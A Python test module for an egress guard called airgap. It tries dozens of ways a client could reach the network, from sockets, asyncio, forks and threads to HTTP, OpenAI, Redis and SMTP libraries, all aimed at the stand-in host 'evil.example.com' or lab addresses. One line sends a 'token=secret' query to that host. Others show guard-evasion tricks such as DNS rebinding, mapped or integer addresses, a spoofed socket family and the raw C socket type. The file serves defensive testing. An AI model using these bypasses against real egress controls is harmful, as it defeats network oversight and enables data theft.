"""Every way that a Python client here could leave, tried one by one, by name and by address.

    python -m tests.egress.clients FILE [--off]     in a bare process: the guard alone, without Django; --off: not even that

try_all() and write() do the same inside a process of the product. Run by tests/egress/everywhere.py in the namespace of
tests/egress/lab.py; never run it elsewhere.
"""

import _socket
import asyncio
import http.client
import json
import os
import re
import signal
import smtplib
import socket
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from functools import partial
from ipaddress import IPv4Address
from pathlib import Path
from socket import getaddrinfo as early_getaddrinfo
from typing import Any

from airgap import guard
from airgap.blocked import AirgapBlocked
from airgap.policy import EgressPolicy
from tests.egress.lab import PUBLIC4S, PUBLIC6

DOMAIN = "evil.example.com"
PRIVATE_LOOK = "rebind.internal"  # the namespace's DNS answers it with PUBLIC4
AS_MAPPED, AS_NUMBER = PUBLIC4S[-1], PUBLIC4S[-2]
Call = Callable[[str], Any]


@dataclass(frozen=True, slots=True)
class Attempt:
    """One client's try at one host, and how it ended: "blocked", "leaked" (no error), "error" or "absent" (not installed).

    host: under which the trail has it. process: host:pid as there.
    """

    client: str
    host: str
    process: str
    outcome: str
    error: str = ""


class FalseFamily(socket.socket):
    family = socket.AF_UNIX  # type: ignore[assignment]


def udp() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def udp_connected(host: str) -> Any:
    sock = udp()
    sock.connect((host, 80))
    sock.send(b"x")


def by_requests(host: str) -> Any:
    import requests

    return requests.get(f"https://{host}/", timeout=2)


def by_urllib3(host: str) -> Any:
    import urllib3

    return urllib3.PoolManager().request("GET", f"https://{host}/", timeout=2, retries=2)


def by_httpx(host: str) -> Any:
    import httpx

    return httpx.get(f"http://{host}/", timeout=2)


def by_httpx_async(host: str) -> Any:
    import httpx

    async def go() -> None:
        async with httpx.AsyncClient(timeout=2) as client:
            await client.get(f"http://{host}/")

    return asyncio.run(go())


def by_aiohttp(host: str) -> Any:
    import aiohttp

    async def go() -> None:
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(2)) as session:
            await session.get(f"http://{host}/")

    return asyncio.run(go())


def by_openai(host: str) -> Any:
    import openai

    client = openai.OpenAI(base_url=f"http://{host}/v1", api_key="planted", max_retries=0, timeout=2)
    return client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}])


def by_openai_async(host: str) -> Any:
    import openai

    async def go() -> None:
        async with openai.AsyncOpenAI(base_url=f"http://{host}/v1", api_key="planted", max_retries=0, timeout=2) as client:
            await client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}])

    return asyncio.run(go())


def by_redis(host: str) -> Any:
    import redis
    from redis.backoff import NoBackoff
    from redis.retry import Retry

    return redis.Redis(host=host, socket_connect_timeout=2, retry=Retry(NoBackoff(), 2)).ping()


def by_redis_async(host: str) -> Any:
    import redis.asyncio
    from redis.asyncio.retry import Retry
    from redis.backoff import NoBackoff

    async def go() -> None:
        async with redis.asyncio.Redis(host=host, socket_connect_timeout=2, retry=Retry(NoBackoff(), 2)) as client:
            await client.ping()

    return asyncio.run(go())


def by_stream(host: str) -> Any:
    return asyncio.run(asyncio.wait_for(asyncio.open_connection(host, 443), 2))


def by_sock_connect(host: str) -> Any:
    async def go() -> None:
        sock = socket.socket()
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (host, 443))

    return asyncio.run(go())


def by_datagram(host: str) -> Any:
    async def go() -> None:
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(host, 53))
        transport.sendto(b"x")

    return asyncio.run(go())


def by_unconnected_datagram(host: str) -> Any:
    """The transport swallows the refusal: it is told to the protocol, not raised to the caller."""

    async def go() -> None:
        loop = asyncio.get_running_loop()
        loop.set_exception_handler(lambda *_: None)
        ended: asyncio.Future[Exception | None] = loop.create_future()

        class Watch(asyncio.DatagramProtocol):
            def connection_lost(self, error: Exception | None) -> None:
                ended.set_result(error)

        transport, _ = await loop.create_datagram_endpoint(Watch, local_addr=("0.0.0.0", 0))
        transport.sendto(b"x", (host, 53))
        transport.close()
        if error := await ended:
            raise error

    return asyncio.run(go())


def in_thread(host: str) -> Any:
    caught: list[BaseException] = []

    def go() -> None:
        try:
            socket.create_connection((host, 443), 2)
        except BaseException as error:
            caught.append(error)

    thread = threading.Thread(target=go)
    thread.start()
    thread.join()
    if caught:
        raise caught[0]


FORK = "fork"
# Each is tried with a name and with an address.
DIALLERS: dict[str, Call] = {
    "gethostbyaddr": lambda host: socket.gethostbyaddr(host),
    "connect": lambda host: socket.socket().connect((host, 443)),
    "connect bytes": lambda host: socket.socket().connect((host.encode(), 443)),
    "connect_ex": lambda host: socket.socket().connect_ex((host, 443)),
    "sendto": lambda host: udp().sendto(b"x", (host, 53)),
    "sendto with flags": lambda host: udp().sendto(b"x", 0, (host, 53)),
    "sendmsg": lambda host: udp().sendmsg([b"x"], [], 0, (host, 53)),
    "udp connect": udp_connected,
    "create_connection": lambda host: socket.create_connection((host, 443), 2),
    "urllib": lambda host: urllib.request.urlopen(f"https://{host}/x?token=secret", timeout=2),
    "http.client": lambda host: http.client.HTTPConnection(host, timeout=2).request("GET", "/"),
    "http.client TLS": lambda host: http.client.HTTPSConnection(host, timeout=2).request("GET", "/"),
    "smtplib": lambda host: smtplib.SMTP(host, 25, timeout=2),
    "requests": by_requests,
    "urllib3": by_urllib3,
    "httpx": by_httpx,
    "httpx async": by_httpx_async,
    "aiohttp": by_aiohttp,
    "openai": by_openai,
    "openai async": by_openai_async,
    "redis": by_redis,
    "redis async": by_redis_async,
    "asyncio stream": by_stream,
    "asyncio sock_connect": by_sock_connect,
    "asyncio datagram": by_datagram,
    "asyncio unconnected datagram": by_unconnected_datagram,
    "thread": in_thread,
    FORK: lambda host: socket.create_connection((host, 443), 2),
}
NAMES_ONLY: dict[str, Call] = {
    "socket.getaddrinfo": lambda host: socket.getaddrinfo(host, 443),
    "early-bound getaddrinfo": lambda host: early_getaddrinfo(host, 443),
    "gethostbyname": lambda host: socket.gethostbyname(host),
    "gethostbyname_ex": lambda host: socket.gethostbyname_ex(host),
    "bind": lambda host: socket.socket().bind((host, 0)),
    "source address": lambda host: socket.create_connection(("127.0.0.1", 9), 2, source_address=(host, 0)),
    "a false family": lambda host: FalseFamily(socket.AF_INET, socket.SOCK_STREAM).connect((host, 443)),
}
ADDRESSES_ONLY: dict[str, Call] = {
    "getnameinfo": lambda host: socket.getnameinfo((host, 443), 0),
    "the C type itself": lambda host: _socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect((host, 443)),
}
# With the host that the trail is to have.
ODD: dict[str, tuple[str, Callable[[], Any]]] = {
    "connect v6": (PUBLIC6, lambda: socket.socket(socket.AF_INET6).connect((PUBLIC6, 443))),
    "connect mapped": (AS_MAPPED, lambda: socket.socket(socket.AF_INET6).connect((f"::ffff:{AS_MAPPED}", 443))),
    "connect number": (str(int(IPv4Address(AS_NUMBER))), lambda: socket.socket().connect((str(int(IPv4Address(AS_NUMBER))), 443))),
    "raw socket": ("(raw socket)", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "private name, public answer": (PRIVATE_LOOK, lambda: socket.create_connection((PRIVATE_LOOK, 443), 2)),
    "httpx, private name, public answer": (PRIVATE_LOOK, lambda: by_httpx(PRIVATE_LOOK)),
}


def table(place: str) -> Iterator[tuple[str, str, Callable[[], Any]]]:
    """(client, host, call) of everything to try; a name is of one client and place, an address of one client."""
    for client, call in {**DIALLERS, **NAMES_ONLY}.items():
        host = f"{re.sub(r'[^a-z0-9]+', '-', client.lower())}.{place}.{DOMAIN}"
        yield client, host, partial(call, host)
    for address, (client, call) in zip(PUBLIC4S[1:], {**DIALLERS, **ADDRESSES_ONLY}.items(), strict=False):
        yield f"{client}, address", address, partial(call, address)
    for client, (host, odd) in ODD.items():
        yield client, host, odd


def try_all(place: str) -> list[dict[str, str]]:
    """Every attempt, as dictionaries for JSON. The forks first: a child forked while another thread is in libc's resolver waits there for ever."""
    rows = sorted(table(place), key=lambda row: not row[0].startswith(FORK))
    return [asdict(forked(*row) if row[0].startswith(FORK) else tried(*row)) for row in rows]


def write(place: str, answer: Path) -> None:
    """Try everything, then write the attempts to the file, which appears whole."""
    draft = answer.with_suffix(".draft")
    draft.write_text(json.dumps(try_all(place)))
    draft.rename(answer)


def tried(client: str, host: str, call: Callable[[], Any]) -> Attempt:
    process = f"{socket.gethostname()}:{os.getpid()}"
    try:
        call()
    except ImportError as error:
        return Attempt(client, host, process, "absent", str(error))
    except BaseException as error:
        return Attempt(client, host, process, "blocked" if is_blocked(error) else "error", type(error).__name__)
    return Attempt(client, host, process, "leaked")


def forked(client: str, host: str, call: Callable[[], Any]) -> Attempt:
    """The attempt of a child."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(20)
        os.write(write, json.dumps(asdict(tried(client, host, call))).encode())
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(write)
    with open(read, "rb") as answer:
        return Attempt(**json.loads(answer.read() or json.dumps(asdict(Attempt(client, host, f"{socket.gethostname()}:{pid}", "error", "it hung")))))


def is_blocked(error: BaseException | None) -> bool:
    while error is not None:
        if isinstance(error, AirgapBlocked):
            return True
        if isinstance(error, BaseExceptionGroup):
            return any(is_blocked(inner) for inner in error.exceptions)
        error = error.__cause__ or error.__context__
    return False


def main() -> None:
    answer = Path(sys.argv[1])
    if "--off" not in sys.argv:
        guard.install(EgressPolicy.from_text("1", ""), answer.with_suffix(".spool"))
    write("bare", answer)


if __name__ == "__main__":
    main()
